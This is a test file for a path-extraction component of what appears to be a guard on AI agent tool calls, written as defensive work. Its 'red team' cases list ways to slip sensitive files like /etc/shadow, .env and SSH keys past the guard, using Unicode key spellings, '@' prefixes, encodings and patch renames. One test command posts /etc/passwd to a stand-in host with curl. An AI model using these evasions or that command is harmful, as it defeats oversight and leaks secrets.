import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { extractPaths, mayHaveBlankAtEdge, newKeyKindMemo, readVariants, TOP_KEYS, topKeyIndex } from '../../src/facts/extract-paths.js';
import { commandPaths } from '../../src/facts/word-paths.js';
import { patchPaths } from '../../src/facts/patch-paths.js';
import type { SimpleCommand } from '../../src/types.js';

const values = (r: ReturnType<typeof extractPaths>) => r.paths.map((p) => p.value);
const cmd = (words: string[], redirects: string[] = []): SimpleCommand => ({ words, text: words.join(' '), redirects });

describe('extractPaths', () => {
  it('finds the path parameters of file tools', () => {
    expect(values(extractPaths('read', 'read', { path: 'a.txt' }, undefined))).toEqual(['a.txt']);
    expect(values(extractPaths('Read', 'read', { file_path: '/x/a', offset: 3 }, undefined))).toEqual(['/x/a']);
    expect(values(extractPaths('NotebookEdit', 'write', { notebook_path: 'n.ipynb', new_source: 'x' }, undefined))).toEqual(['n.ipynb']);
    expect(values(extractPaths('MultiEdit', 'write', { file_path: 'a', edits: [{ old_string: '/x', new_string: '/y' }] }, undefined))).toEqual(['a']);
    expect(values(extractPaths('Grep', 'read', { pattern: 'x/y', path: 'src' }, undefined))).toEqual(['src']);
    expect(values(extractPaths('exec', 'exec', { command: 'ls /etc', workdir: '/tmp' }, undefined))).toEqual(['/tmp']);
    expect(values(extractPaths('move', 'write', { old_path: 'a', new_path: 'b' }, undefined))).toEqual(['a', 'b']);
    expect(values(extractPaths('x', 'write', { options: { outputFile: 'o.txt', profile: 'p' } }, undefined))).toEqual(['o.txt']);
  });

  it('reads parameter names as a case-insensitive decoder does, U+017F as s (red team 20A)', () => {
    expect(values(extractPaths('mcp__fs__read_multiple_files', 'read', { 'path\u017f': ['.env'] }, undefined))).toEqual(['.env']);
    expect(values(extractPaths('mcp__filesystem__move_file', 'write', { '\u017fource': '.env', destination: 'x' }, undefined))).toEqual(['.env', 'x']);
    // A working directory under another spelling is the shell's directory, and the call's own too (hereToo).
    for (const key of ['workDir', 'Cwd', 'work_dir', 'WORKDIR']) {
      const r = extractPaths('exec', 'exec', { command: 'cat shadow', [key]: '/etc' }, undefined);
      expect(r.workdirs, key).toEqual(['/etc']);
      expect(r.hereToo, key).toBe(true);
      expect(r.writes, key).toEqual([false]);
    }
    const exact = extractPaths('exec', 'exec', { command: 'cat shadow', workdir: '/etc' }, undefined);
    expect([exact.workdirs, exact.hereToo]).toEqual([['/etc'], false]);
  });

  it('reads arrays of paths and labels where each came from', () => {
    const r = extractPaths('read_many', 'read', { paths: ['a', 'b'] }, ['/abs/c']);
    expect(r.paths).toEqual([
      { value: 'a', from: 'params.paths[0]' },
      { value: 'b', from: 'params.paths[1]' },
      { value: '/abs/c', from: 'derivedPaths[0]' },
    ]);
    expect(r.writes).toEqual([false, false, false]);
    expect(r.problems).toEqual([]);
  });

  it('marks paths of write and exec tools as written', () => {
    expect(extractPaths('write', 'write', { path: 'a', content: 'x' }, undefined).writes).toEqual([true]);
    expect(extractPaths('shell', 'exec', { command: 'x', path: '/w/a' }, undefined).writes).toEqual([true]);
  });

  it('does not mark the directory an exec tool starts in as written, as the call\'s cwd is not', () => {
    expect(extractPaths('shell', 'exec', { command: 'x', cwd: '/w' }, undefined).writes).toEqual([false]);
    expect(extractPaths('exec', 'exec', { command: 'x', workdir: '/w', path: '/w/a' }, undefined).writes).toEqual([false, true]);
  });

  it('takes recipient-like keys only when they look like paths', () => {
    expect(values(extractPaths('message', 'write', { action: 'send', to: '#general', target: 'user:1' }, undefined))).toEqual([]);
    expect(values(extractPaths('copy', 'write', { source: './a', destination: '/etc/b' }, undefined))).toEqual(['./a', '/etc/b']);
  });

  it("reads MCP file servers' other spellings: `uri`, `resource`, `pathname`, `files_to_read` (red team 12)", () => {
    expect(values(extractPaths('mcp__fs__read_file', 'read', { uri: '/etc/passwd' }, undefined))).toEqual(['/etc/passwd']);
    expect(values(extractPaths('mcp__fs__read', 'read', { pathname: '/etc/passwd', fname: 'a', files_to_read: ['b'], notebook: 'n.ipynb' }, undefined))).toEqual(['/etc/passwd', 'a', 'b', 'n.ipynb']);
    expect(values(extractPaths('mcp__fs__read', 'read', { fileUri: '/etc/x', resource: '~/.ssh/id' }, undefined))).toEqual(['/etc/x', '~/.ssh/id']);
    // a URL or an id under `uri`/`resource` is no path
    expect(values(extractPaths('mcp__gh__get', 'read', { uri: 'repo://a/b', resource: 'issue-12' }, undefined))).toEqual([]);
  });

  it('takes bare names under those keys as paths for file tools only', () => {
    const r = extractPaths('mcp__filesystem__move_file', 'write', { source: 'a.ts', destination: ['package.json'] }, undefined);
    expect(r.paths).toEqual([{ value: 'a.ts', from: 'params.source' }, { value: 'package.json', from: 'params.destination[0]' }]);
    expect(r.words).toBeUndefined();
    const message = extractPaths('message', 'write', { action: 'send', to: 'alice' }, undefined);
    expect(message.paths).toEqual([]);
    expect(message.words).toEqual(['alice']);
  });

  it("checks the other spellings of a file name OpenClaw's read falls back to", () => {
    const read = (path: string) => values(extractPaths('read', 'read', { path }, undefined));
    // NFC and NFD, Unicode spaces as ASCII, quotes both ways, the macOS screenshot space.
    expect(read('caf\u00e9')).toEqual(['caf\u00e9', 'cafe\u0301']);
    expect(read('cafe\u0301')).toEqual(['cafe\u0301', 'caf\u00e9']);
    expect(read('my\u00a0notes')).toEqual(['my\u00a0notes', 'my notes']);
    expect(read('it\u2019s')).toEqual(['it\u2019s', "it's"]);
    expect(read("d/it's")).toEqual(["d/it's", 'd/it\u2019s']);
    expect(read('/s/Shot 1.02 PM.png')).toEqual(['/s/Shot 1.02 PM.png', '/s/Shot 1.02\u202fPM.png']);
    // The name is the last segment as path.resolve leaves it, and of the raw text.
    expect(read('it\u2019s/.')).toContain("it's");
    expect(read('/a/it\u2019s/')).toContain("/a/it's");
    expect(read('/a/it\u2019s/')).toContain("/a/iit's"); // basename's length cut from the raw text
    // As a `file:` URL, and after a leading `@`.
    expect(read('file:///a/it%E2%80%99s')).toContain("/a/it's");
    expect(read('@it\u2019s')).toContain("it's");
    // Ordinary names have none; nor do tools that are no file tools.
    expect(read('src/app.ts')).toEqual(['src/app.ts']);
    expect(values(extractPaths('web_fetch', 'read', { path: 'caf\u00e9' }, undefined))).toEqual(['caf\u00e9']);
  });

  it("reads a leading `@` both ways, as OpenClaw's file tools strip it (and Gemini CLI's, with the slashes after it)", () => {
    expect(values(extractPaths('read', 'read', { path: '@/etc/passwd' }, undefined))).toEqual(['@/etc/passwd', '/etc/passwd', 'etc/passwd']);
    expect(values(extractPaths('write', 'write', { path: '@@x' }, undefined))).toEqual(['@@x', '@x']);
    expect(values(extractPaths('read_many', 'read', { paths: ['a', '@.env'] }, undefined))).toEqual(['a', '@.env', '.env']);
    expect(values(extractPaths('copy', 'write', { source: '@../x' }, undefined))).toEqual(['@../x', '../x']);
    // A lone `@` has no second reading; an `@` later in the path is part of a name.
    expect(values(extractPaths('read', 'read', { path: '@' }, undefined))).toEqual(['@']);
    expect(values(extractPaths('read', 'read', { path: 'node_modules/@types/x' }, undefined))).toEqual(['node_modules/@types/x']);
  });

  it('ignores environment objects, whose keys are variable names', () => {
    expect(values(extractPaths('exec', 'exec', { command: 'x', env: { PATH: '/usr/bin', HOME: '/h' } }, undefined))).toEqual([]);
  });

  it('refuses a call whose parameters hold more than 100,000 names (walking millions takes seconds)', () => {
    const many = Object.fromEntries(Array.from({ length: 100_001 }, (_, i) => [`k${i}`, 1]));
    expect(extractPaths('read_file', 'read', { path: 'a', extra: many }, undefined).problems[0]).toMatch(/more than 100000 names/);
    expect(extractPaths('read_file', 'read', { path: 'a', extra: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, 1])) }, undefined).problems).toEqual([]);
  });

  it('reports values of unexpected types as problems', () => {
    expect(extractPaths('read', 'read', { path: 42 }, undefined).problems).toHaveLength(1);
    expect(extractPaths('read', 'read', { paths: ['a', { x: 1 }] }, undefined).problems).toHaveLength(1);
    expect(extractPaths('read', 'read', { path: true }, undefined).problems).toHaveLength(1);
    expect(extractPaths('read', 'read', { path: { x: 1 } }, undefined).problems).toHaveLength(1);
    expect(extractPaths('read', 'read', 'a string', undefined).problems).toHaveLength(1);
    expect(extractPaths('read', 'read', {}, 'not-an-array').problems).toHaveLength(1);
    expect(extractPaths('read', 'read', {}, ['ok', 7]).problems).toHaveLength(1);
  });

  it('looks inside path keys holding objects', () => {
    expect(values(extractPaths('x', 'write', { file: { path: '/etc/shadow' } }, undefined))).toEqual(['/etc/shadow']);
  });

  it('reads the files of an apply_patch body, all written', () => {
    const input = [
      '*** Begin Patch',
      '*** Add File: /etc/evil.txt',
      '+hello',
      '*** Update File: src/a.ts',
      '*** Move to: ../../outside.ts',
      '@@',
      '-a',
      '+b',
      '  *** Delete File: old.txt',
      '*** End Patch',
    ].join('\n');
    const r = extractPaths('apply_patch', 'write', { input }, undefined);
    expect(values(r)).toEqual(['/etc/evil.txt', 'src/a.ts', '../../outside.ts', 'old.txt']);
    expect(r.writes).toEqual([true, true, true, true]);
    expect(r.problems).toEqual([]);
  });

  it('reads patch bodies from `patch`, `content` and a bare string', () => {
    expect(values(extractPaths('apply_patch', 'write', { patch: '*** Add File: a' }, undefined))).toEqual(['a']);
    expect(values(extractPaths('apply-patch', 'write', { content: '*** Delete File: b' }, undefined))).toEqual(['b']);
    expect(values(extractPaths('apply_patch', 'write', '*** Update File: c\r\n', undefined))).toEqual(['c']);
  });

  it('fails closed on unreadable patches', () => {
    expect(extractPaths('apply_patch', 'write', {}, undefined).problems).toHaveLength(1);
    expect(extractPaths('apply_patch', 'write', { input: 5 }, undefined).problems.length).toBeGreaterThan(0);
    expect(extractPaths('apply_patch', 'write', { input: '*** Rename File: x' }, undefined).problems).toHaveLength(1);
  });

  it('reads unified diff headers and both readings of an `@` path', () => {
    expect(patchPaths('--- a/src/x.ts\n+++ b/src/y.ts\n').paths).toEqual(['src/x.ts', 'src/y.ts']);
    expect(patchPaths('--- /dev/null\n+++ b/new.ts').paths).toEqual(['new.ts']);
    expect(patchPaths('*** Add File: @~/.bashrc').paths).toEqual(['@~/.bashrc', '~/.bashrc']);
  });

  it('reads the body of apply_patch under a namespace too (red team 5)', () => {
    const values = (tool: string) => extractPaths(tool, 'write', { input: '*** Add File: .env\n+x' }, undefined).paths.map((p) => p.value);
    // A bridge's prefix too (`codex_apply_patch`, red team 13A).
    for (const tool of ['apply_patch', 'ApplyPatch', 'apply-patch', 'mcp__codex__apply_patch', 'functions.apply_patch', 'default_api:apply_patch', 'srv/apply_patch', 'codex_apply_patch']) {
      expect(values(tool), tool).toEqual(['.env']);
    }
    // Other names ending in `patch` keep their `input` a plain value.
    for (const tool of ['reapply_patch', 'mcp__x__dispatch', 'patch']) expect(values(tool), tool).toEqual([]);
    // opencode's apply_patch takes `patchText`; every body given is read.
    expect(extractPaths('apply_patch', 'write', { input: '', patchText: '*** Add File: .env\n+x' }, undefined).paths.map((p) => p.value)).toEqual(['.env']);
  });

  it("reads git's extended headers: renames, copies and `diff --git` names (red team 5)", () => {
    // `git apply` moves .env by a pure rename, with no `---`/`+++` lines.
    expect(new Set(patchPaths('diff --git a/.env b/notes.txt\nsimilarity index 100%\nrename from .env\nrename to notes.txt\n').paths)).toEqual(new Set(['.env', 'notes.txt']));
    expect(new Set(patchPaths('diff --git a/x b/x\ncopy from x\ncopy to ../../y\n').paths)).toEqual(new Set(['x', '../../y']));
    // git apply's old spellings `rename old`/`rename new` override the `diff --git` names (red team 46).
    expect(new Set(patchPaths('diff --git a/src/x b/src/x\nsimilarity index 100%\nrename old .env\nrename new src/x\n').paths)).toEqual(new Set(['src/x', '.env']));
    expect(patchPaths('rename old "\\056env"\n').problems).toHaveLength(1);
    // A mode change or an empty file's deletion names its file only on the `diff --git` line.
    expect(patchPaths('diff --git a/.env b/.env\ndeleted file mode 100644\n').paths).toEqual(['.env']);
    // Names with spaces: the split git takes when both sides agree, else every split.
    expect(patchPaths('diff --git a/my file b/my file\nold mode 100644\nnew mode 100755\n').paths).toEqual(['my file']);
    expect(patchPaths('diff --git a/x y b/z\n').paths.sort()).toEqual(['x', 'x y', 'y b/z', 'z']);
    // A quoted name (git's C quoting) or a line of too many spaces is refused.
    expect(patchPaths('rename to "\\056env"\n').problems).toHaveLength(1);
    expect(patchPaths(`diff --git ${'a '.repeat(40)}\n`).problems).toHaveLength(1);
    // Body lines (`+`, `-`, space) and other words are not headers.
    expect(patchPaths('*** Begin Patch\n*** Update File: a\n@@\n+rename to x\n copy from y\n*** End Patch').paths).toEqual(['a']);
    expect(patchPaths('data\ncopyright\nrenamed\n').paths).toEqual([]);
  });

  it('ends patch lines at \\n only, as OpenClaw and Codex do: a lone \\r stays in the path', () => {
    expect(patchPaths('*** Add File: a\r/../../x\n+y').paths).toEqual(['a\r/../../x']);
    expect(patchPaths('*** update file: a\r/../x').paths).toEqual(['a\r/../x']);
    expect(patchPaths('+++ b/src/a\r/../../x').paths).toEqual(['src/a\r/../../x']);
    // A CRLF line loses its \r; one at the very end of the body is kept, as a split keeps it.
    expect(patchPaths('*** Add File: a.ts\r\n+x\r\n').paths).toEqual(['a.ts']);
    expect(patchPaths('*** Delete File: a.ts\r').paths).toEqual(['a.ts']); // trimmed as any header path
  });

  it('property: every string under `path` is extracted as written, without a leading `@` (and the slashes after it), percent-decoded and trimmed; non-strings are problems', () => {
    // As written; for `@x`, `x` (OpenClaw) and `x` without leading slashes (Gemini CLI).
    const marked = (s: string) => {
      if (s.length <= 1 || !s.startsWith('@')) return [s];
      const relative = s.slice(1).replace(/^[\\/]+/, '');
      return relative !== s.slice(1) && relative !== '' ? [s, s.slice(1), relative] : [s, s.slice(1)];
    };
    const decoded = (s: string) => {
      try {
        return decodeURIComponent(s);
      } catch {
        return s;
      }
    };
    const asWritten = (s: string) => (s.includes('%') && decoded(s) !== s ? [...marked(s), ...marked(decoded(s))] : marked(s));
    // ... and all of those again for the value trimmed (Claude Code trims before opening).
    const wanted = (s: string): string[] => (s.trim() !== s && s.trim() !== '' ? [...asWritten(s), ...asWritten(s.trim())] : asWritten(s));
    const readings = (s: string) => wanted(s).length;
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^@/), fc.stringMatching(/%[0-9a-fA-F]{2}/), fc.stringMatching(/^[\s\uFEFF]|[\s\uFEFF]$/), fc.integer(), fc.boolean(), fc.array(fc.string(), { maxLength: 3 })), (value) => {
        const r = extractPaths('read', 'read', { path: value }, undefined);
        if (typeof value === 'string') {
          const want = wanted(value);
          // Other spellings of the name (readVariants) come after each reading.
          const variants = new Set(want.flatMap((w) => readVariants(w)).filter((v) => !want.includes(v)));
          return JSON.stringify(r.paths.map((p) => p.value).filter((v) => !variants.has(v))) === JSON.stringify(want) && r.problems.length === 0;
        }
        if (Array.isArray(value)) return r.paths.length >= value.reduce((n, s) => n + readings(s), 0) && r.problems.length === 0;
        return r.paths.length === 0 && r.problems.length === 1;
      }),
      { numRuns: 500 },
    );
  });
});

describe('commandPaths', () => {
  it('takes path-like arguments and redirect targets', () => {
    const r = commandPaths(cmd(['cat', '../.env', 'plain', '~/x', '.hidden', '-n'], ['out.txt', '&1', '2']));
    // `plain` is a file operand of cat (facts/file-operands.ts)
    expect(r.pathLike).toEqual(['../.env', '~/x', '.hidden', 'plain']);
    // Redirect targets apart (the shell opens them in its own directory); `&1` duplicates a descriptor.
    expect(r.redirects).toEqual(['out.txt', '2']);
    expect(r.words).toEqual(['cat', '../.env', 'plain', '~/x', '.hidden', '-n', 'out.txt', '2']);
  });

  it('reads option values, @files and file URLs; skips other URLs and absolute programs', () => {
    expect(commandPaths(cmd(['/usr/bin/env', 'python', '--output=/etc/x'])).pathLike).toEqual(['--output=/etc/x', '/etc/x']);
    expect(commandPaths(cmd(['curl', '-d', '@/etc/passwd', 'https://x.test/a'])).pathLike).toEqual(['@/etc/passwd', '/etc/passwd']);
    expect(commandPaths(cmd(['curl', 'file:///etc/shadow'])).pathLike).toEqual(['/etc/shadow']);
    expect(commandPaths(cmd(['dd', 'if=/dev/zero', 'of=../x'])).pathLike).toEqual(['/dev/zero', '../x']);
    // tar's archive and, extracting, the directory it writes into (facts/operands/archives.ts)
    expect(commandPaths(cmd(['tar', '-C/etc', '-xf', 'a'])).pathLike).toEqual(['-C/etc', '/etc', 'a']);
    expect(commandPaths(cmd(['tar', '-xf', 'a'])).pathLike).toEqual(['a', '.']);
    expect(commandPaths(cmd(['tar', '-C', 'x', '-C', 'y', '-xf', 'a'])).pathLike).toEqual(['a', 'x/y']);
    expect(commandPaths(cmd(['./build.sh'])).pathLike).toEqual(['./build.sh']);
  });
});

describe('topKeyIndex', () => {
  it('is the index in TOP_KEYS of exactly the names listed there', () => {
    TOP_KEYS.forEach((key, i) => expect(topKeyIndex(key)).toBe(i));
    const near = fc.oneof(fc.constantFrom(...TOP_KEYS).map((k) => k.toUpperCase()), fc.constantFrom(...TOP_KEYS).map((k) => k + ' '), fc.constantFrom('paths', 'cwd', 'cmd', '', '__proto__', 'constructor'), fc.string());
    fc.assert(fc.property(near, (k) => topKeyIndex(k) === (TOP_KEYS as readonly string[]).indexOf(k)), { numRuns: 1000 });
  });
});

describe('parameter names', () => {
  it('are classified alike the first time and once remembered, past the memo bound too', () => {
    // Names past the common table: a path by suffix, a maybe-path key, a media key, a plain one;
    // each with and without other names seen in between (enough to start the memo over).
    const params = { sourceFile: '/etc/passwd', destination: '/etc/shadow', thumbnail: '/etc/hosts', maxChars: '/etc/group', run_in_background: true };
    const memo = newKeyKindMemo();
    const values = (p: Record<string, unknown>) => extractPaths('read', 'read', p, undefined, memo).paths.map((x) => x.value);
    // without a memo, then with one (new, remembered, started over)
    const first = extractPaths('read', 'read', params, undefined).paths.map((x) => x.value);
    expect(first).toEqual(['/etc/passwd', '/etc/shadow', '/etc/hosts']);
    expect(values(params)).toEqual(first);
    expect(values(params)).toEqual(first);
    for (let i = 0; i < 10_000; i++) values({ [`k${i}`]: 'x', [`x${i}_path`]: 'a' });
    expect(memo.size).toBeLessThanOrEqual(4096);
    expect(values(params)).toEqual(first);
    expect(values({ path: '/a', limit: '/b' })).toEqual(['/a']);
  });

  it("of a tool no built-in class knows: an absolute or home path under any name is read (red team 25)", () => {
    const values = (tool: string, p: Record<string, unknown>) => extractPaths(tool, 'write', p, undefined).paths.map((x) => x.value);
    expect(values('mcp__convert__to_text', { input: '/home/u/.ssh/id_rsa', output: '~/out.txt', mode: 'fast' })).toEqual(['/home/u/.ssh/id_rsa', '~/out.txt']);
    expect(values('tool', { maxChars: '/etc/group', root: '/.env' })).toEqual(['/etc/group', '/.env']);
    // not a path: a slash command, a sentence, text of several lines
    expect(values('mcp__chat__post', { text: '/remind me', a: 'see /etc/x', c: '/a/b\nc' })).toEqual([]);
    // read as Linux reads them: `//etc/shadow` (so a protocol-relative URL too), a climb out, lists, JSON text (red team 26)
    expect(values('mcp__x__y', { a: '//etc/shadow', b: '../../etc/x', c: ['/etc/y', 'plain'], d: '{"input":"/etc/z"}' })).toEqual(['//etc/shadow', '../../etc/x', '/etc/y', '/etc/z']);
    // not a file (an audit of MCP calls): an id, stored text, a message of several words
    expect(values('mcp__context7__get-library-docs', { context7CompatibleLibraryID: '/vercel/next.js', libraryId: '/a/b' })).toEqual([]);
    expect(values('mcp__github__create_or_update_file', { path: 'x.json', content: '{"bin":"/usr/bin/python3"}' })).toEqual(['x.json']);
    expect(values('mcp__slack__post', { text: '/deploy/prod now' })).toEqual([]);
    expect(values('mcp__slack__post', { text: '/etc/shadow' })).toEqual(['/etc/shadow']);
    // a built-in tool's plain parameter is not read so
    expect(values('web_search', { query: '/etc/passwd' })).toEqual([]);
  });
});

describe('media parameters', () => {
  it('are read paths unless they are URLs, in strings and arrays; other types name nothing', () => {
    const r = extractPaths('video_generate', 'write', { image: 'a.png', images: ['b.png', 'https://x.test/c.png'], audioRef: 'data:audio/mp3;base64,AA', audio: true, pdf: 'file:///etc/x.pdf' }, undefined);
    expect(r.paths.map((p) => [p.value, p.from])).toEqual([['a.png', 'params.image'], ['b.png', 'params.images[0]'], ['file:///etc/x.pdf', 'params.pdf']]);
    // Loaded to be sent on, never written, even by a write-class tool.
    expect(r.writes).toEqual([false, false, false]);
    expect(r.problems).toEqual([]);
  });

  it("are also read as OpenClaw cleans them: trimmed, without `MEDIA:` or a leading `@`", () => {
    const media = (v: string) => extractPaths('image', 'read', { image: v }, undefined).paths.map((p) => p.value);
    expect(media('MEDIA:/etc/x')).toEqual(['/etc/x']);
    expect(media('media : ./.env')).toEqual(['media : ./.env', './.env']);
    expect(media(' /etc/x ')).toEqual([' /etc/x ', '/etc/x']);
    expect(media(' file:///etc/x')).toEqual(['file:///etc/x']);
    expect(media('@ MEDIA:a.png')).toEqual(['@ MEDIA:a.png', 'a.png']);
    expect(media('@/etc/x')).toEqual(['@/etc/x', '/etc/x']);
    // A `media://` store reference and other URLs stay URLs, however spaced.
    expect(media(' media://inbound/a.png')).toEqual([' media://inbound/a.png']);
    expect(media('MEDIA: https://x.test/a.png')).toEqual([]);
    expect(media('a.png')).toEqual(['a.png']);
  });

  it('take a one-letter scheme as a path (a drive), not as a URL', () => {
    expect(extractPaths('image', 'read', { image: 'C:/x.png' }, undefined).paths.map((p) => p.value)).toEqual(['C:/x.png']);
  });
});

describe('spellings other gateways open', () => {
  const values = (toolName: string, params: object) => extractPaths(toolName, 'read', params, undefined).paths.map((p) => p.value);

  it('a percent-encoded path is read decoded too (Gemini CLI decodes before opening)', () => {
    expect(values('read_file', { file_path: 'secrets%2Fkey' })).toEqual(['secrets%2Fkey', 'secrets/key']);
    expect(values('read_file', { file_path: 'src/100%done' })).toEqual(['src/100%done']); // no valid encoding: as written
  });

  it('a path with a blank at an edge is read trimmed too (Claude Code trims before opening: red team 23)', () => {
    expect(values('Read', { file_path: '/w/.env ' })).toEqual(['/w/.env ', '/w/.env']);
    expect(values('Grep', { pattern: 'x', path: '\u3000/etc' })).toContain('/etc');
    expect(values('read', { path: ' @/w/.env\u00a0' })).toEqual(expect.arrayContaining(['@/w/.env', '/w/.env']));
    expect(values('read', { path: '   ' })).toEqual(['   ']); // nothing left once trimmed: as written only
  });

  it('mayHaveBlankAtEdge is true for every character String.prototype.trim removes', () => {
    for (let code = 0; code <= 0xffff; code++) {
      const ch = String.fromCharCode(code);
      if (ch.trim() === '') expect(mayHaveBlankAtEdge(`${ch}a`) && mayHaveBlankAtEdge(`a${ch}`)).toBe(true);
    }
    expect(mayHaveBlankAtEdge('a b')).toBe(false);
    expect(mayHaveBlankAtEdge('')).toBe(false);
  });

  it('`@/x` is read as `/x` (OpenClaw) and as `x` (Gemini CLI)', () => {
    expect(values('read_file', { file_path: '@/secrets/key' })).toEqual(['@/secrets/key', '/secrets/key', 'secrets/key']);
    expect(values('read', { path: '@src/a.ts' })).toEqual(['@src/a.ts', 'src/a.ts']);
  });

  it('a file URL behind a wrapper scheme is the file (`view-source:`, the archive of `jar:`)', () => {
    expect(values('browser', { targetUrl: 'view-source:file:///etc/passwd' })).toEqual(['file:///etc/passwd']);
    expect(values('browser', { targetUrl: 'VIEW-SOURCE:view-source:file:///etc/passwd' })).toEqual(['file:///etc/passwd']);
    expect(values('browser', { targetUrl: 'jar:file:///tmp/a.zip!/x.txt' })).toEqual(['file:///tmp/a.zip']);
    expect(values('browser', { targetUrl: 'view-source:https://example.com/' })).toEqual([]);
  });

  it('inline attachments are walked, not refused; other objects under a path key still are', () => {
    const inline = extractPaths('sessions_spawn', 'write', { attachments: [{ name: 'a.txt', content: 'x', encoding: 'utf8' }] }, undefined);
    expect(inline.problems).toEqual([]);
    expect(inline.paths).toEqual([]);
    const nested = extractPaths('sessions_spawn', 'write', { attachments: [{ content: 'x', path: '/etc/passwd' }] }, undefined);
    expect(nested.paths.map((p) => p.value)).toEqual(['/etc/passwd']);
    expect(extractPaths('message', 'write', { attachments: [{ ref: 'x' }] }, undefined).problems).toEqual(['`params.attachments[0]` is not a string']);
  });

  it("Gemini CLI's replace must find a relative path where it is (mustExist); an absolute one it never swaps", () => {
    expect(extractPaths('replace', 'write', { file_path: 'key' }, undefined).mustExist).toEqual(['key']);
    expect(extractPaths('replace', 'write', { file_path: '/ws/key' }, undefined).mustExist).toBeUndefined();
    expect(extractPaths('edit', 'write', { path: 'key' }, undefined).mustExist).toBeUndefined();
  });
});
